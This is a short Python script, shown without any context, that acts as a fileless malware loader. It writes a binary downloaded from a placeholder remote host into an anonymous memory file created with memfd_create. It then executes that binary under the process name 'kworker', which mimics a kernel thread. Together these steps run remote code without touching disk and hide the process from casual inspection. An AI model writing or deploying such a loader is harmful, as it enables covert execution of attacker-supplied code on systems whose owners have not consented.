import os, ctypes, urllib.request
fd = ctypes.CDLL(None).memfd_create("x", 1)
os.write(fd, urllib.request.urlopen("https://d.example.invalid/e").read())
os.execv("/proc/self/fd/%d" % fd, ["kworker"])
